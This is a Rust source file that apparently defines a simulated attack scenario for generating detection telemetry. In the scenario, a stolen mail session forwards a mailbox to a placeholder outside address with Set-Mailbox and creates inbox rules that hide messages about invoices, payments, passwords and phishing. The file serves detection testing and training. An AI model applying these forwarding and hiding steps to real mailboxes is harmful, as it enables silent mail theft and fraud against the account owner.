//! A stolen session turns on forwarding of a mailbox and hides the answers with rules.

use crate::events::unified::MailClient;
use crate::life::attempt::{Second, method_of};
use crate::scenarios::Scenario;
use crate::session::{Session, WEB_MAIL};
use crate::stage::Stage;
use crate::world::applications::{EXCHANGE_ONLINE, OUTLOOK_WEB};

pub(super) const SCENARIO: Scenario =
    Scenario::attack("mailbox-forwarding-and-hiding-rules", "T1114.003", &[72, 73], play);

fn play(stage: &mut Stage<'_>) -> Option<String> {
    let victim = stage.victim()?;
    let second = Second::Given(method_of(victim));
    let mut intrusion = Session::begin(stage, victim, ("Ashburn", 11), (OUTLOOK_WEB, EXCHANGE_ONLINE), second);
    stage.detect(&intrusion.sign_in, "unfamiliarFeatures", "low", true);
    intrusion.search_mail(stage, "invoice");
    intrusion.read_mail(stage, 14, MailClient::OutlookWeb, None);
    let outside = format!("archive.{}@mailbox.example", stage.number());
    let parameters = vec![
        ("Identity", victim.sign_in.clone()),
        ("DeliverToMailboxAndForward", String::from("True")),
        ("ForwardingSmtpAddress", format!("smtp:{outside}")),
    ];
    intrusion.command(stage, "Set-Mailbox", WEB_MAIL, victim.sign_in.clone(), parameters);
    intrusion.hiding_rule(stage, ".", "invoice;payment;bank", "RSS Feeds");
    intrusion.hiding_rule(stage, "..", "password;phish;hacked", "Conversation History");
    intrusion.compliance_alert(stage, "Creation of forwarding/redirect rule");
    stage.cloud_alert(
        intrusion.time,
        "Suspicious inbox manipulation rule",
        "T1564.008",
        victim.index,
        intrusion.source,
    );
    Some(format!(
        "Someone with the password of {} and a tricked second factor read mail, forwarded the mailbox to {outside} and hid the answers with two rules.",
        victim.sign_in
    ))
}
